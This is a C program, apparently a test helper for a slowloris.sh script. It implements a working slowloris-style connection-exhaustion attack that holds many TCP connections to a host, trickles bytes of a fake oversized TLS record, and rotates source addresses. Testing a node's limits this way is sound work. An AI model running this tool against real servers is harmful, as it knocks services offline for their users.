/*
 * An attacker without a certificate, for slowloris.sh: holds many TCP
 * connections to one address, some idle and some trickling a byte of a TLS
 * record now and then so that an idle timer would never fire, and opens a
 * new one whenever the target closes one.  It never completes a handshake.
 *
 *   trickle [-s SOURCE]... HOST PORT TRICKLING IDLE SECONDS [INTERVAL_MS]
 *
 * With -s, connections go out from those IPv4 addresses in turn (on
 * loopback any 127.x.y.z), as an attacker who owns several hosts would.
 *
 * Prints at the end: connections opened, closed by the target, failed to
 * connect, and the most that were open at once.  Exit 0 unless it could not
 * run at all.  A dropped connection is opened again after a second: a slow
 * attacker needs no more to keep the node's pending slots full, and a
 * flood of connects is another attack (the kernel's listen queue is its
 * limit, not the node's).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct slot {
	int fd;
	int source;	    /* index in sources, if any */
	int trickle;	    /* sends a byte every interval */
	int connected;	    /* the non-blocking connect finished */
	size_t sent;	    /* bytes of the fake record sent */
	long long next_ms;  /* when to send the next byte, or, closed, to open again */
};

/* The start of a TLS record that announces far more than will ever come. */
static const unsigned char record[] = {0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc,
				       0x03, 0x03};

static long long
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static struct sockaddr_in target;
static struct sockaddr_in sources[64];
static int nsources;
static unsigned long opened, closed_by_target, connect_failed, open_now, max_open;

/* Opens a slot's connection; -1 when no socket could be made. */
static int
slot_open(struct slot *s, long long now, int interval)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (fd < 0)
		return -1;
	if (nsources > 0 &&
	    bind(fd, (struct sockaddr *)&sources[s->source], sizeof(sources[0])) != 0) {
		close(fd);
		connect_failed++;
		return -1;
	}
	if (connect(fd, (struct sockaddr *)&target, sizeof(target)) != 0 &&
	    errno != EINPROGRESS) {
		close(fd);
		connect_failed++;
		return -1;
	}
	s->fd = fd;
	s->connected = 0;
	s->sent = 0;
	s->next_ms = now + rand() % (interval + 1);
	opened++;
	if (++open_now > max_open)
		max_open = open_now;
	return 0;
}

static void
slot_close(struct slot *s)
{
	close(s->fd);
	s->fd = -1;
	open_now--;
}

int
main(int argc, char **argv)
{
	int ntrickle, nidle, seconds, interval = 1000, n, ch;
	struct slot *slots;
	struct pollfd *pfd;
	struct rlimit rl;
	long long end;

	while ((ch = getopt(argc, argv, "s:")) != -1) {
		if (ch != 's' || nsources == 64)
			goto usage;
		sources[nsources].sin_family = AF_INET;
		if (inet_pton(AF_INET, optarg, &sources[nsources].sin_addr) != 1)
			goto usage;
		nsources++;
	}
	argc -= optind - 1;
	argv += optind - 1;
	if (argc < 6 || argc > 7) {
usage:
		fprintf(stderr, "usage: trickle [-s SOURCE]... HOST PORT TRICKLING IDLE SECONDS "
				"[INTERVAL_MS]\n");
		return 2;
	}
	memset(&target, 0, sizeof(target));
	target.sin_family = AF_INET;
	target.sin_port = htons((unsigned short)atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1) {
		fprintf(stderr, "trickle: %s: not an IPv4 address\n", argv[1]);
		return 2;
	}
	ntrickle = atoi(argv[3]);
	nidle = atoi(argv[4]);
	seconds = atoi(argv[5]);
	if (argc == 7)
		interval = atoi(argv[6]);
	n = ntrickle + nidle;
	if (n <= 0 || n > 100000 || seconds <= 0 || seconds > 3600 || interval <= 0) {
		fprintf(stderr, "trickle: bad arguments\n");
		return 2;
	}
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 16) {
		rl.rlim_cur = rl.rlim_max < (rlim_t)n + 16 ? rl.rlim_max : (rlim_t)n + 16;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	slots = calloc((size_t)n, sizeof(*slots));
	pfd = calloc((size_t)n, sizeof(*pfd));
	if (slots == NULL || pfd == NULL)
		return 2;
	srand((unsigned)getpid());
	end = now_ms() + (long long)seconds * 1000;
	for (int i = 0; i < n; i++) {
		slots[i].fd = -1;
		slots[i].trickle = i < ntrickle;
		slots[i].source = nsources > 0 ? i % nsources : 0;
	}
	while (now_ms() < end) {
		long long now = now_ms();

		for (int i = 0; i < n; i++) {
			struct slot *s = &slots[i];

			if (s->fd < 0 && now >= s->next_ms)
				slot_open(s, now, interval);
			pfd[i].fd = s->fd;
			pfd[i].events = POLLIN | (s->connected ? 0 : POLLOUT);
			pfd[i].revents = 0;
		}
		if (poll(pfd, (nfds_t)n, 50) < 0 && errno != EINTR)
			break;
		now = now_ms();
		for (int i = 0; i < n; i++) {
			struct slot *s = &slots[i];
			char buf[4096];

			if (s->fd < 0)
				continue;
			if (pfd[i].revents & (POLLIN | POLLHUP | POLLERR)) {
				ssize_t r = read(s->fd, buf, sizeof(buf));

				if (r == 0 || (r < 0 && errno != EAGAIN)) {
					if (s->connected)
						closed_by_target++;
					else
						connect_failed++;
					slot_close(s);
					s->next_ms = now + 1000;
					continue;
				}
			}
			if (!s->connected && (pfd[i].revents & POLLOUT))
				s->connected = 1;
			if (s->connected && s->trickle && now >= s->next_ms) {
				unsigned char b = s->sent < sizeof(record) ? record[s->sent] : 0x42;

				if (write(s->fd, &b, 1) == 1)
					s->sent++;
				s->next_ms = now + interval;
			}
		}
	}
	printf("opened %lu closed_by_target %lu connect_failed %lu max_open %lu\n", opened,
	       closed_by_target, connect_failed, max_open);
	for (int i = 0; i < n; i++)
		if (slots[i].fd >= 0)
			slot_close(&slots[i]);
	free(slots);
	free(pfd);
	return 0;
}
